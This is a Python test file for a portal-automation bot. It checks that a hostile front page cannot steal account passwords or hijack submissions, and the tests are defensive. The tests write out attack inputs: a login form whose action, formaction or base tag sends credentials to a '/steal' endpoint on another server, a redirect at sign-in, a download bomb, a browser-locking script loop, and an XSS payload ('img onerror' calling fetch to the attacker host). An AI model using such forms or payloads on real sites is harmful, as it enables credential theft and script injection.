"""A hostile portal: nothing is typed where it would go elsewhere, each ends in a clear state, and others go on."""

import dataclasses
from collections.abc import Iterator
from pathlib import Path

import pytest
from loguru import logger

from mock_portal.desk.practice_office import PracticeOffice
from mock_portal.office.register import Subject
from mock_portal.web.server import Portal as PracticePortal
from pages.catalogue import shipped
from pages.profile import Portal
from pages.terms import Kind
from portalbot.rules.states import State
from tests.hostile import Answer, Change, Hostile, hostile
from tests.support import PASSWORDS, Bot, edited

OTHER = "JH-001"
"""Of another account, at a portal that means well."""
MINE = "QT-001"


@pytest.fixture
def elsewhere() -> Iterator[Hostile]:
    with hostile() as server:
        yield server


@pytest.fixture
def front(practice: PracticePortal) -> Iterator[Hostile]:
    with hostile(practice.url) as server:
        yield server


@pytest.fixture
def bot(tmp_path: Path, portal: Portal, front: Hostile) -> Iterator[Bot]:
    """Return the bot with 浙江 behind the hostile front, and everybody else at the practice portal."""

    class Divided(Bot):
        def portal_of(self, province: str, kind: Kind) -> Portal:
            there = shipped("practice/浙江").at(front.url) if province == "浙江" else portal
            return there if kind is not Kind.LICENCE else super().portal_of(province, kind)

    bot = Divided(tmp_path, portal)
    bot.page_seconds = 3.0
    yield bot
    bot.close()


def page(text: str, *headers: tuple[str, str]) -> Answer:
    return Answer(200, [("Content-Type", "text/html; charset=utf-8"), *headers], text.encode())


def with_script(script: str) -> Change:
    """Add a script to every page."""

    def change(_path: str, answer: Answer) -> Answer | None:
        if b"</head>" not in answer.body:
            return None
        return dataclasses.replace(
            answer, body=answer.body.replace(b"</head>", f"<script>{script}</script></head>".encode())
        )

    return change


def at_sign_in(answer: Answer) -> Change:
    return lambda path, _answer: answer if path.endswith("login.html") else None


def untouched(bot: Bot, office: PracticeOffice, elsewhere: Hostile) -> None:
    """Say that nothing was typed anywhere, the case waits for somebody, and the other account's case was filed."""
    secret = PASSWORDS["qiantang"].encode()
    assert elsewhere.asked == [] and not any(secret in body for body in elsewhere.bodies)
    assert [one.account for one in office.sign_ins if one.account == "qiantang"] == []
    assert {one.number for one in office.applications} == {bot.case(OTHER).number}
    assert bot.state(OTHER) is State.SUBMITTED


def test_a_redirect_at_sign_in_leads_nowhere(
    bot: Bot, office: PracticeOffice, front: Hostile, elsewhere: Hostile
) -> None:
    front.change = at_sign_in(Answer(302, [("Location", f"{elsewhere.url}/login.html")], b""))
    heard: list[str] = []
    sink = logger.add(heard.append, level="WARNING", format="{message}")
    bot.submit(MINE, OTHER)
    logger.remove(sink)
    untouched(bot, office, elsewhere)
    assert bot.state(MINE) is State.FAILED and bot.entry(MINE).message
    assert any(elsewhere.url.removeprefix("http://") in line and "not let out" in line for line in heard)


FORM = """<h1>用户登录</h1><form action="{action}" method="post"><label>账号<input name="a"></label>
<label>密码<input type="password" name="p"></label><button{more}>登录</button></form>"""


@pytest.mark.parametrize("where", ["action", "formaction", "base"])
def test_a_form_that_would_be_sent_elsewhere_is_not_filled(
    bot: Bot, office: PracticeOffice, front: Hostile, elsewhere: Hostile, where: str
) -> None:
    there = f"{elsewhere.url}/steal"
    action, more = (there, "") if where != "formaction" else ("/ok", f' formaction="{there}"')
    form = FORM.format(action=action if where != "base" else "steal", more=more)
    base = f'<base href="{elsewhere.url}/">' if where == "base" else ""
    front.change = at_sign_in(page(base + form))
    bot.submit(MINE, OTHER)
    untouched(bot, office, elsewhere)
    entry = bot.entry(MINE)
    assert entry.state is State.WAITING and elsewhere.url in entry.message
    assert [rest.reason for rest in bot.ledger.rests.in_force()] == ["untrusted"], "a person must look first"
    before = len(front.asked)
    bot.submit(MINE)
    assert len(front.asked) == before, "nor is it tried again by itself"


@pytest.mark.parametrize(
    "answer",
    [
        page("<h1>x", ("Content-Disposition", "attachment; filename=bomb.zip")),
        page("<h1>用户登录</h1>" + "<p>行</p>" * 60_000),
        page("<script>for (;;) alert(1)</script><h1>用户登录</h1>"),
    ],
    ids=["a download", "a giant page", "endless questions"],
)
def test_a_page_that_is_none_ends_in_time_and_others_go_on(
    bot: Bot, office: PracticeOffice, front: Hostile, elsewhere: Hostile, answer: Answer
) -> None:
    heard: list[str] = []
    sink = logger.add(heard.append, level="WARNING", format="{message}")
    front.change = at_sign_in(answer)
    bot.submit(MINE, OTHER)
    logger.remove(sink)
    untouched(bot, office, elsewhere)
    downloads = [line for line in heard if "a download was refused" in line]
    assert bool(downloads) == any(name == "Content-Disposition" for name, _ in answer.headers)
    assert bot.state(MINE) in (State.FAILED, State.WAITING) and bot.entry(MINE).message


TOAST = """setInterval(() => {
    const one = document.createElement('div');
    one.className = 'el-message el-message--error';
    one.textContent = '请再次输入密码';
    document.body?.append(one);
}, 50)"""


def test_an_endless_complaint_ends_in_time_and_no_password_is_typed_twice(
    bot: Bot, office: PracticeOffice, front: Hostile
) -> None:
    front.change = with_script(TOAST)
    bot.submit(MINE, OTHER)
    assert len([one for one in office.sign_ins if one.account == "qiantang"]) <= 1
    assert bot.state(MINE) in (State.FAILED, State.WAITING, State.REFUSED) and bot.state(OTHER) is State.SUBMITTED
    assert {one.number for one in office.applications} == {bot.case(OTHER).number}


def test_a_script_in_a_records_name_is_text(
    bot: Bot, office: PracticeOffice, front: Hostile, elsewhere: Hostile
) -> None:
    name = f"<img src=x onerror=\"fetch('{elsewhere.url}')\">商城"
    [owner] = office.accounts("浙江")[0].subjects
    sites = (dataclasses.replace(owner.sites[0], name=name), *owner.sites[1:])
    changed: tuple[Subject, ...] = (dataclasses.replace(owner, sites=sites),)
    office.add_account("浙江", "qiantang", PASSWORDS["qiantang"], changed)
    bot.use(edited(bot.case(MINE), site_name=name))
    bot.submit(MINE)
    assert bot.state(MINE) is State.SUBMITTED, bot.entry(MINE).message
    assert elsewhere.asked == [] and len(office.applications) == 1
